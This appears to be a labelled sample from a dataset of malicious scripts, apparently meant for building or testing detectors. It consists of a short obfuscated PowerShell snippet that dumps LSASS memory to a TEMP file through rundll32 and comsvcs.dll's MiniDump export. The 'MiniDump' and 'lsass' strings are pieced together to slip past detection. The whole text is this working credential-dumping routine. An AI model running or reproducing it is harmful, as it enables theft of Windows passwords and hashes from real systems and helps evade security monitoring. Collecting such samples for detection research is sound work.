# description: Dumps LSASS with MiniDump and the process name both assembled from pieces.
# family: exfiltration
# obfuscated: yes
$m = 'Mini' + 'Dump'
$t = ([char[]](108,115,97,115,115)) -join ''
$d = "$env:SystemRoot\System32\comsvcs.dll"
rundll32.exe "$d,$m" (Get-Process $t).Id "$env:TEMP\d.bin" full
